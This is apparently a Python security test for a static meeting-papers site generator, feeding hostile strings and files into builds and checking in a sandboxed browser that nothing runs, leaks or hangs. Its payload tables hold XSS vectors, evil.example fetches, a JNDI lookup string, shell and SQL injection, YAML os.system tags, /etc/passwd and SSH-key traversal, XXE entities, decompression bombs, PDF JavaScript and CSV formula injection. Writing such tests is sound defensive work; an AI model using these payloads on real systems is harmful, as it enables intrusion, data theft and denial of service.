"""Editors paste from anywhere, and files come from anybody: strings and files that would run, fetch, leak or never end.

Each is put into a sound archive of its own and built. It may be refused with a diagnostic. Where it is published no
page runs it, no request leaves, every link is one of those that there may be and leads somewhere; and whether it is or
not, nothing outside is read, nothing is called, there is no traceback, and it takes neither long nor much memory.
"""

from __future__ import annotations

import contextlib
import html.parser
import io
import json
import mimetypes
import multiprocessing
import os
import posixpath
import shutil
import struct
import tempfile
import time
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urlsplit

import pikepdf
from PIL import Image
from places import BOARD, PROJECT, SITE, meetings, request, write

from akson_docs.actions import building
from akson_docs.actions.source_reader import Progress
from akson_docs.diagnostics import has_errors, line
from akson_docs.pdf.workers import WorkerPool
from hunts.guard import Guard

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog, Route

STRINGS, FILES = 300, 40
COUNT = STRINGS + FILES
MOST_MEMORY = 500_000_000
"""Bytes of a process at its peak."""
MOST_SECONDS = 300
"""Far above what the slowest machine needs: what is sought are builds without an end."""
SECRET = "HEMMELIG-4f1c9a"
"""What a file outside says, to which links lead."""
PWN = "window.__pwned=1"
BROWSERS = ("chromium", "google-chrome", "/Applications/Chromium.app/Contents/MacOS/Chromium")

# ---- strings -------------------------------------------------------------------------------------------------

PAYLOADS = (
    # markup
    f"<script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f'"><img src=x onerror="{PWN}">',
    f"' autofocus onfocus='{PWN}",
    f"<svg/onload={PWN}>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "<iframe src=//evil.example/></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<form action=http://evil.example/><button>Ok</button></form>",
    f"<!--><script>{PWN}</script>-->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<template><script>{PWN}</script></template>",
    f"<xmp><script>{PWN}</script></xmp>",
    f"<details open ontoggle={PWN}>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"&#60;script&#62;{PWN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{PWN}+ADw-/script+AD4-",
    f"\x3cscript\x3e{PWN}",
    "</section></main></body></html>",
    "<p id=innhold><a name=slide-1>",
    f"<a href=javascript:{PWN}>x</a>",
    "<object data=file:///etc/passwd></object>",
    # Markdown
    f"[x](javascript:{PWN})",
    f"[x](JaVa&Tab;ScRiPt:{PWN})",
    f"[x](java\tscript:{PWN})",
    f"[x](&#106;avascript:{PWN})",
    f"[x](data:text/html,<script>{PWN}</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\x)",
    f"[x](https://a.example/<table><svg/onload={PWN}>)",
    f'[x](https://a.example "<img src=x onerror={PWN}>")',
    f"[x]\n\n[x]: javascript:{PWN}",
    f"<javascript:{PWN}>",
    f"![x](x\" onerror=\"{PWN})",
    "![x](http://evil.example/a.png)",
    f"[![x](a.png)](javascript:{PWN})",
    f"`</code><script>{PWN}</script>`",
    f"|a|\n|-|\n|<script>{PWN}</script>|",
    "[https://bank.example](https://evil.example)",
    "[x](#\"><script>x</script>)",
    "\x02klzzwxh:0000\x03",
    "> " * 200 + "x",
    "- " * 200 + "x",
    "[" * 3000,
    "[a](" * 3000,
    "*" * 5000,
    "# " * 2000,
    "|" * 4000,
    # templates, formats, catalogues
    "{{ 7*7 }}{% include 'pages/front.html' %}",
    "{{ site.__class__.__mro__ }}",
    "{% raw %}{{ x }}",
    "%(x)s %s %n %1000000000d",
    "{0.__class__} {n} {number}",
    "${jndi:ldap://evil.example/a}",
    "<%= 7*7 %>",
    "$(touch /tmp/pwned)`id`",
    "'; DROP TABLE meetings; --",
    # YAML
    "&a [*a, *a]",
    "!!python/object/apply:os.system [id]",
    "!include /etc/passwd",
    "<<: *x",
    "- - - - x",
    "{a: {b: {c: [",
    "key: value: more",
    "|2-\n  x",
    "%YAML 9.9",
    "--- x",
    # signs
    "gave \u202egnp.exe",
    "a\u2066b\u2069 c\u200b\u200d\ufeff",
    "\u0000\u0001\u0007\u001b[31m",
    "\u2028\u2029\u0085",
    "e\u0301" * 300 + "Z" + "\u0351" * 500,
    "\ufdfd" * 50,
    "\U000e0041\U000e007f",
    "\U0001f469\u200d\U0001f4bb\ufffd\uffff",
    "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
    "\u0634\u062c\u0631\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    # long, empty, odd
    "A" * 20_000,
    "ord " * 20_000,
    " ",
    "-",
    "~",
    "null",
    "1e999",
    "9" * 5000 + "/20",
    "-1/0",
    # names and addresses
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share\\x.png",
    "file:///etc/passwd",
    "http://evil.example/a.png",
    "http://bank.example@evil.example/",
    "https://evil.example/\"onmouseover=x",
    "%2e%2e%2fsecret.png",
    "..%c0%af..%c0%afsecret",
    "a#b?c=d%41&e.png",
    "a\nb.png",
    "CON.png",
    "x" * 300 + ".png",
    "lenke.png",
    "mappe/lenke.png",
    "fifo.png",
    "con\u202egnp.svg",
)  # fmt: skip

Made = Mapping[str, str | bytes]


def quoted(text: str) -> str:
    """A text in quotes as YAML has it."""
    return json.dumps(text, ensure_ascii=False)


def block(text: str, indent: int) -> str:
    """A text over several lines."""
    return "|\n" + "\n".join(" " * indent + line for line in text.splitlines() or [""])


def a_meeting(
    *,
    title: str = "Status",
    number: str = "17/20",
    presenter: str = "leder",
    slide: str = "Hvor vi er",
    body: str = "- Ett\n- To",
    top: str = "",
    item: str = "",
    more: str = "",
) -> str:
    """A meeting with an item and a slide; `top`, `item` and `more` are lines for the meeting, the item, the slides."""
    return (
        f"date: 2020-07-01\nstart: 09:00\n{top}items:\n"
        f"  - number: {quoted(number)}\n    title: {quoted(title)}\n    type: Orientering\n    duration: 30\n"
        f"    presenter: {quoted(presenter)}\n    proposal: Styret tar saken til orientering.\n{item}    slides:\n"
        f"      - title: {quoted(slide)}\n        body: {block(body, 10)}\n{more}"
    )


def one(text: str, site: str = SITE, board: str = BOARD, files: Made | None = None) -> Made:
    """An archive of this meeting."""
    return meetings({"2020-01/meeting.yaml": text, **(files or {})}, site, board)


def is_name(name: str) -> bool:
    """Whether there can be a file called so, and with its own folders."""
    parts = name.split("/")
    return (
        bool(name)
        and "\0" not in name
        and all(0 < len(os.fsencode(part)) < 256 for part in parts)
        and ".." not in parts
    )


def a_file(payload: str, attached: bool) -> Made:
    """An archive with a file called so, where there can be one."""
    name = payload if is_name(payload) and not payload.startswith("/") else payload.replace("/", "_")[:80] or "x"
    name = name if "." in name else f"{name}.png"
    row = f"    attachments:\n      - file: {quoted(name)}\n"
    figure = f"      - kind: figure\n        title: Kart\n        alt: Kart over tomta\n        file: {quoted(name)}\n"
    files: Made = {f"2020-01/{name}": png()} if is_name(name) and name not in LINKS else {}
    return one(a_meeting(item=row) if attached else a_meeting(more=figure), files=files)


LINKS = ("lenke.png", "mappe/lenke.png", "fifo.png")

CONTEXTS: Mapping[str, Callable[[str], Made]] = {
    "title": lambda text: one(a_meeting(title=text)),
    "body": lambda text: one(a_meeting(body=text)),
    "table cell": lambda text: one(a_meeting(body=f"| a | b |\n|---|---|\n| {text} | c |")),
    "link's address": lambda text: one(a_meeting(body=f"[klikk her]({text})")),
    "link's words": lambda text: one(a_meeting(body=f"[{text}](https://eksempel.example.no)")),
    "label": lambda text: one(a_meeting(), board=f"{BOARD}labels:\n  nb: {{number: {quoted(text)}}}\n"),
    "number": lambda text: one(a_meeting(number=text)),
    "picture's name": lambda text: a_file(text, attached=False),
    "attachment's name": lambda text: a_file(text, attached=True),
    "aside": lambda text: one(a_meeting(more=f"        aside: {quoted(text)}\n")),
    "CSV": lambda text: one(
        a_meeting(more="      - kind: table\n        title: Tall\n        data: tall.csv\n"),
        files={"2020-01/tall.csv": f'Post;Sum\n"{text}";1\n'},
    ),
    "board's name": lambda text: one(a_meeting(), board=BOARD.replace("Styret", quoted(text))),
    "site's name": lambda text: one(a_meeting(), site=SITE.replace("Møtepapirer", quoted(text))),
    "presenter": lambda text: one(a_meeting(presenter=text)),
    "address": lambda text: one(a_meeting(item=f"    attachments:\n      - {{url: {quoted(text)}, title: Rapport}}\n")),
    "slide's title": lambda text: one(a_meeting(slide=text)),
    "Markdown file": lambda text: one(a_meeting(item="    paper: sak.md\n"), files={"2020-01/sak.md": text}),
    "place": lambda text: one(a_meeting(top=f"place: {quoted(text)}\n")),
    "YAML": lambda text: one(a_meeting(item=f"    summary: {text}\n")),
}


def a_string(seed: int) -> tuple[str, Made]:
    """(what it is, an archive) for a hostile string; each payload comes in several contexts."""
    chance = Random(seed)
    payload = PAYLOADS[seed % len(PAYLOADS)]
    names = list(CONTEXTS)
    context = names[(seed // len(PAYLOADS) * 7 + seed) % len(names)]
    if seed >= len(PAYLOADS):
        payload = chance.choice((str, str.upper, lambda text: text + text, lambda text: f"Å{text} ", str.swapcase))(
            payload
        )
    return f"{context} {payload[:80]!r}", CONTEXTS[context](payload)


# ---- files ---------------------------------------------------------------------------------------------------


def png(width: int = 4, height: int = 3, more: bytes = b"", pixels: bytes | None = None) -> bytes:
    """A PNG, and what is hidden in it."""

    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))

    data = packed(b"\0" + b"\x80" * 3 * width, height) if pixels is None else pixels
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    hidden = chunk(b"zTXt", more) if more else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + hidden + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def packed(row: bytes, times: int) -> bytes:
    """A row so many times, compressed without ever being there as a whole."""
    packing = zlib.compressobj(9)
    return b"".join([*(packing.compress(row) for _ in range(times)), packing.flush()])


def jpeg(**more: Any) -> bytes:
    """A JPEG."""
    held = io.BytesIO()
    Image.new("RGB", (80, 60), "red").save(held, "JPEG", **more)
    return held.getvalue()


def pdf(inside: str = "") -> bytes:
    """A PDF with an action of its own at its opening."""
    held = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(300, 400))
        if inside:
            made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(inside))
            note = pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 300, 400],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"javascript:{inside}")),
            )
            made.pages[0].obj.Annots = made.make_indirect(pikepdf.Array([made.make_indirect(note)]))
        made.save(held, linearize=False, static_id=True)
    return held.getvalue()


def svg(inside: str, more: str = "") -> bytes:
    """An SVG with this in it."""
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" {more}>'
        f'<title>Kart</title>{inside}<rect width="9" height="9"/></svg>'
    ).encode()


_USES = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
BODIES: Sequence[tuple[str, bytes]] = (
    ("svg", svg(f"<script>{PWN}</script>")),
    ("svg", svg("", f'onload="{PWN}"')),
    ("svg", svg(f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{PWN}"/></foreignObject>')),
    ("svg", svg('<image href="http://evil.example/a.png"/><use href="http://evil.example/a.svg#x"/>')),
    ("svg", svg("<style>@import url(http://evil.example/a.css);</style>")),
    ("svg", svg('<g id="g0"><rect width="1" height="1"/></g>' + _USES)),
    ("svg", svg("<g>" * 50_000 + "</g>" * 50_000)),
    ("svg", svg('<rect width="abc" height="1e999"/><path d="M0 0 L nan,x Z"/><g transform="a(x)"/>', 'width="1e9"')),
    ("svg", b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + svg("<text>&b;</text>")),
    ("svg", b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<text>&a;</text>")),
    ("svg", b'<?xml-stylesheet type="text/css" href="http://evil.example/a.css"?>' + svg("")),
    ("svg", svg('<image width="9" height="9" xlink:href="file:///etc/passwd"/>')),
    ("png", png(20_000, 20_000, pixels=zlib.compress(b""))),
    ("png", png(7_000, 7_000, pixels=zlib.compress(b""))),
    ("png", png(7_000, 7_000)),
    ("png", png(more=b"x\0\0" + packed(bytes(1_000_000), 50))),
    ("png", b"<script>window.__pwned=1</script>"),
    ("png", b"GIF89a" + bytes(100)),
    ("jpg", jpeg(exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff")),
    ("jpg", jpeg()[:200]),
    ("jpg", b"\xff\xd8\xff\xe0" + b"\xff" * 5_000),
    ("jpg", jpeg(progressive=True) + b"\xff\xda" * 500),
    ("pdf", pdf(f"app.alert(1);{PWN}")),
    ("pdf", b"%PDF-1.7\n" + b"<<" * 100_000),
    ("pdf", pdf().replace(b"/Count 1", b"/Count 9")),
    ("pdf", b"<html>"),
    ("csv", b"a;b\n" + b"x;y\n" * 200_000),
    ("csv", b'a;b\n"' + b"x" * 90_000),
    ("csv", b"a;b\n=cmd|'/c calc'!A0;=HYPERLINK(\"http://evil.example\")\n"),
    ("csv", b"\xff\xfea\0;\0"),
    ("csv", b";" * 50_000 + b"\n" + b";" * 49_000),
    ("md", b"[" * 50_000),
    ("md", b"> " * 40_000),
    ("md", b"".join(b"  " * n + b"- x\n" for n in range(200))),
    ("md", b"\xff\x00\xfe"),
    ("md", "[klikk](javascript:x) ‮ <script>window.__pwned=1</script> \x1b".encode()),
)  # fmt: skip


def a_file_of(seed: int) -> tuple[str, Made]:
    """(what it is, an archive) for a hostile file; after those that are written here come sound ones, spoilt."""
    chance = Random(seed)
    if seed < len(BODIES):
        kind, data = BODIES[seed]
    else:
        kind = chance.choice(("svg", "png", "jpg", "pdf"))
        sound = {"svg": svg('<g fill="red"><text x="1" y="2">Å</text></g>'), "png": png(), "jpg": jpeg(), "pdf": pdf()}
        spoilt = bytearray(sound[kind])
        for _ in range(chance.randrange(1, 20)):
            spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
        data = bytes(spoilt[: chance.choice((len(spoilt), chance.randrange(1, len(spoilt))))])
    name = f"fil.{kind}"
    rows = {
        "csv": {"more": f"      - kind: table\n        title: Tall\n        data: {name}\n"},
        "md": {"item": f"    paper: {name}\n"},
        "pdf": {"item": f"    attachments:\n      - file: {name}\n"},
    }
    figure = f"      - kind: figure\n        title: Kart\n        alt: Kart over tomta ved elva\n        file: {name}\n"
    row = rows.get(kind, {"item": f"    attachments:\n      - file: {name}\n", "more": figure})
    return f"{kind} {data[:60]!r} ({len(data)} bytes)", one(a_meeting(**row), files={f"2020-01/{name}": data})


# ---- trying --------------------------------------------------------------------------------------------------


def archive(seed: int) -> tuple[str, Made]:
    """(what is hostile about it, its files) for a seed."""
    return a_string(seed) if seed < STRINGS else a_file_of(seed - STRINGS)


def trials(seeds: Iterable[int], folder: Path) -> Iterator[tuple[int, str]]:
    """For each seed (seed, "" or what was hostile and what came of it)."""
    root, outside = folder / "root", folder / "outside"
    place_outside(outside)
    shutil.copytree(PROJECT / "templates", root / "templates", dirs_exist_ok=True)
    prepare(root, one(a_meeting()), outside)
    guard = Guard(
        str(folder / "heard"),
        (str(root), str(PROJECT / "akson_docs"), str(PROJECT / "templates/locale"), *crews_folders()),
    )
    with WorkerPool(1) as pool:
        guard.on = True  # what the workers is forked from is watched, and so is the workers
        building.build(request(root), pool, Progress())
        guard.on = False
        with chromium() as browser:
            for seed in seeds:
                what, files = archive(seed)
                wrong = trial(root, outside, pool, guard, browser, files)
                yield seed, f"{what}: {'; '.join(wrong)}" if wrong else ""


def place_outside(outside: Path) -> None:
    """What lies outside and may not be read: a picture, and a text."""
    write(outside / "secret.png", png(5, 5) + SECRET.encode())
    write(outside / "passwd", SECRET)


def crews_folders() -> tuple[str, ...]:
    """Where crews keep what they need for a while."""
    return (os.path.join(tempfile.gettempdir(), "akson-"), os.path.join(tempfile.gettempdir(), "pymp-"))


def prepare(root: Path, files: Made, outside: Path) -> None:
    """Places an archive of these files alone, with links out of it beside them."""
    for name in ("meetings", "output"):
        shutil.rmtree(root / name, ignore_errors=True)
    for name, data in files.items():
        with contextlib.suppress(OSError):  # a name that this disk does not know
            write(root / "meetings" / name, data)
    link_out(root / "meetings/styret/2020-01", outside)


def link_out(folder: Path, outside: Path) -> None:
    """Makes links that lead out of a folder, and a pipe that nobody writes to."""
    with contextlib.suppress(FileExistsError):
        (folder / "lenke.png").symlink_to(outside / "secret.png")
        (folder / "mappe").symlink_to(outside)
        os.mkfifo(folder / "fifo.png")


def trial(root: Path, outside: Path, pool: WorkerPool, guard: Guard, browser: Browser | None, files: Made) -> list[str]:
    """What is wrong with what comes of an archive."""
    heard = root.parent / "heard"
    heard.write_text("")
    prepare(root, files, outside)
    forget_peaks()
    began = time.monotonic()
    guard.on = True
    try:
        outcome = building.build(request(root), pool, Progress())
    except Exception as error:
        return [f"{type(error).__name__}: {error}"[:300]]
    finally:
        guard.on = False
    wrong = [f"did {what}" for what in heard.read_text().splitlines()]
    wrong += [f"{peak / 1e6:.0f} MB in a process" for peak in peaks() if peak > MOST_MEMORY]
    if time.monotonic() - began > MOST_SECONDS:
        wrong.append(f"{time.monotonic() - began:.0f} s")
    wrong += [
        f"diagnostic over several lines: {line(told)!r:.100}" for told in outcome.diagnostics if "\n" in line(told)
    ]
    tree = root / "output" / "site"
    if has_errors(outcome.diagnostics):
        return [*wrong, *(["written all the same"] if tree.exists() else [])]
    wrong += [
        f"{path.relative_to(tree)} holds the secret"
        for path in tree.rglob("*")
        if path.is_file() and SECRET.encode() in path.read_bytes()
    ]
    pages = sorted(path.relative_to(tree).as_posix() for path in tree.rglob("*") if path.suffix in (".html", ".svg"))
    wrong += [fault for name in pages if name.endswith(".html") for fault in dead(tree, name)]
    wrong += [fault for path in tree.rglob("*.pdf") if "attachments" not in path.parts for fault in active(path)]
    return wrong + (seen(browser, tree, pages) if browser is not None else [])


def forget_peaks() -> None:
    """Lets the kernel forget how much memory each process has had."""
    for number in (os.getpid(), *(one.pid for one in multiprocessing.active_children())):
        with contextlib.suppress(OSError):
            Path(f"/proc/{number}/clear_refs").write_text("5")


def peaks() -> Iterator[int]:
    """The bytes that each process of the workers, and this one, has had at its peak."""
    for number in (os.getpid(), *(one.pid for one in multiprocessing.active_children())):
        with contextlib.suppress(OSError):
            told = Path(f"/proc/{number}/status").read_text().partition("VmHWM:")[2].split()
            yield int(told[0]) * 1024


class _Links(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def dead(tree: Path, name: str) -> Iterator[str]:
    """The links of a page that lead where none may, or nowhere."""
    links = _Links()
    links.feed((tree / name).read_text("utf-8"))
    for link in links.links:
        try:
            parts = urlsplit(link)
        except ValueError:
            continue  # an address of the web that is none: the browser goes nowhere
        if parts.scheme or parts.netloc:
            if parts.scheme not in ("http", "https", "mailto"):
                yield f"{name} links to {link[:100]!r}"
        elif parts.path:
            path = posixpath.normpath(posixpath.join(posixpath.dirname(name), unquote(parts.path)))
            if name == "404.html":  # it is shown at any address, and leads from the top of the machine
                path = path.lstrip("/")
            if path.startswith("..") or not (tree / path).exists():
                yield f"{name} links to {link[:100]!r}, which is not there"


def active(path: Path) -> Iterator[str]:
    """What a paper of ours holds that runs, or leads where none may."""
    with pikepdf.open(path) as held:
        names: Any = held.Root.get("/Names", {})
        action: Any = held.Root.get("/OpenAction", {})
        if "/JavaScript" in names or "/EmbeddedFiles" in names or "/AA" in held.Root:
            yield f"{path.name} holds scripts or files"
        if isinstance(action, pikepdf.Dictionary) and action.get("/S") != pikepdf.Name.GoTo:
            yield f"{path.name} does something when it is opened"
        for page in held.pages:
            notes: Any = page.obj.get("/Annots", ())
            for note in notes:
                done: Any = note.get("/A", {})
                if done and done.get("/S") not in (pikepdf.Name.URI, pikepdf.Name.GoTo):
                    yield f"{path.name} does {done.get('/S')}"
                if "/URI" in done and not str(done["/URI"]).startswith(("http://", "https://", "mailto:")):
                    yield f"{path.name} links to {str(done['/URI'])[:100]!r}"


# ---- in a browser --------------------------------------------------------------------------------------------


@contextlib.contextmanager
def chromium() -> Iterator[Browser | None]:
    """Chromium, or None where there is none."""
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        yield None
        return
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=found, args=["--no-sandbox", "--disable-dev-shm-usage"])
        yield browser
        browser.close()


SERVED = "http://papirer.example/"
"""Where pages are said to lie: the browser gets them from here, and nothing from anywhere else."""


def seen(browser: Browser, tree: Path, pages: Sequence[str]) -> list[str]:
    """What pages do, and drawings opened by themselves, that none may do."""
    context = browser.new_context()
    context.set_default_timeout(MOST_SECONDS * 1000)

    def serve(route: Route) -> None:
        name = unquote(urlsplit(route.request.url).path).lstrip("/")
        if not route.request.url.startswith(SERVED):
            route.abort()
            return
        try:
            # Now, and not by its name: what a page asks for late may be gone with its trial.
            body = (tree / name).read_bytes()
        except OSError:
            route.fulfill(status=404)
        else:
            route.fulfill(body=body, content_type=mimetypes.guess_type(name)[0])

    context.route("**/*", serve)
    try:
        return [what for name in pages for what in _done(context, name)]
    finally:
        context.close()


def _complaints(text: str) -> Iterator[str]:
    """What the browser says of a page, save that an attribute of a drawing has no sense, which harms nobody."""
    if not text.startswith("Error: <"):
        yield f"console: {text[:120]}"


def _done(context: BrowserContext, name: str) -> Iterator[str]:
    told: list[str] = []
    page = context.new_page()

    def dismiss(dialog: Dialog) -> None:
        told.append("a dialog")
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("console", lambda message: told.extend(_complaints(message.text)))
    page.on("pageerror", lambda error: told.append(f"error: {error}"))
    page.on("popup", lambda _: told.append("a window"))
    page.on("request", lambda sent: told.extend([f"asks {sent.url[:100]}"] * (not sent.url.startswith(SERVED))))
    page.goto(SERVED + name, wait_until="load")
    if page.evaluate("window.__pwned"):
        told.append("a script ran")
    if page.url.partition("#")[0] != SERVED + name:
        told.append(f"went to {page.url[:100]}")
    page.close()
    yield from (f"{name}: {what}" for what in told)
